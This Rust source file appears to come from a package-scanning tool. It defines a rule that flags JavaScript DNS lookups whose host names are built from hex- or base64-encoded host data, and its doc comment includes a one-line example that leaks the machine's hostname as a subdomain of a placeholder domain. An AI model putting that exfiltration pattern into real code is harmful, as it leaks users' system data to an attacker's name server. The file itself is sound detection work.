use ossprey_model::{Category, Finding, Severity};
use ossprey_static::analysis::RunsAt;
use ossprey_static::facts::Arg;

use super::common::{context, host_data, js_sources};
use crate::{Input, Rule, finding};

/// ## What it does
/// Finds DNS lookups (`dns.lookup`, `dns.resolve*`, `dns.promises.*`) whose host name
/// is built at run time (a concatenation or template, not a literal or a plain
/// parameter) in a file that also gathers host data or encodes data to hex/base64/
/// base32 — the shape of data smuggled out in DNS labels.
///
/// ## Why is this bad?
/// DNS queries leave most networks even where HTTP is filtered, and the attacker's
/// name server logs every label. Packages that encode the host name, user or
/// environment into sub-domains of an attacker's zone are exfiltrating over DNS; a
/// normal client resolves the host it was asked to connect to.
///
/// ## Example
/// ```javascript
/// const dns = require("dns"), os = require("os");
/// const label = Buffer.from(os.hostname()).toString("hex");
/// dns.lookup(label + ".example.invalid", () => {});
/// ```
#[derive(Debug)]
pub struct DnsExfil;

const DNS_CALLS: &[&str] = &[
    "dns.lookup",
    "dns.resolve",
    "dns.resolve4",
    "dns.resolve6",
    "dns.resolveTxt",
    "dns.resolveAny",
    "dns.resolveCname",
    "dns.promises.lookup",
    "dns.promises.resolve",
    "dns.promises.resolve4",
    "dns.promises.resolveTxt",
];

impl Rule for DnsExfil {
    fn id(&self) -> &'static str {
        "JS-DNS-EXFIL"
    }
    fn category(&self) -> Category {
        Category::EXFILTRATION
    }
    fn summary(&self) -> &'static str {
        "DNS lookups of host names built from data"
    }
    fn check(&self, input: &Input<'_>, out: &mut Vec<Finding>) {
        for (file, facts) in js_sources(input) {
            let host = host_data(facts);
            let has_host =
                !host.strong.is_empty() || host.whole_env.is_some() || host.weak.len() >= 2;
            let encodes = facts.calls.iter().any(|c| {
                (c.callee.ends_with(".toString")
                    && c.args
                        .first()
                        .and_then(Arg::as_str)
                        .is_some_and(|e| matches!(e, "hex" | "base64" | "base64url")))
                    || c.callee.contains("base32")
                    || c.callee == "?.charCodeAt"
                    || c.callee.ends_with(".charCodeAt")
            });
            if !has_host && !encodes {
                continue;
            }
            let Some(call) = facts.calls.iter().find(|c| {
                DNS_CALLS.contains(&c.callee.as_str())
                    && match c.args.first() {
                        Some(Arg::Other | Arg::Call { .. }) => true,
                        Some(Arg::Name(_)) => has_host && encodes,
                        _ => false,
                    }
            }) else {
                continue;
            };
            let severity = match context(input, file) {
                RunsAt::Install | RunsAt::Import => Severity::Critical,
                RunsAt::Runtime if has_host && encodes => Severity::High,
                RunsAt::Runtime => Severity::Medium,
            };
            let source = if has_host {
                format!("host data ({})", host.describe())
            } else {
                "encoded data".to_owned()
            };
            out.push(finding(
                self.id(),
                severity,
                self.category(),
                format!(
                    "`{}` of a host name built at run time, in a file with {source}",
                    call.callee
                ),
                Some(&file.path),
                Some(call.line),
                Some(&call.snippet),
            ));
        }
    }
}
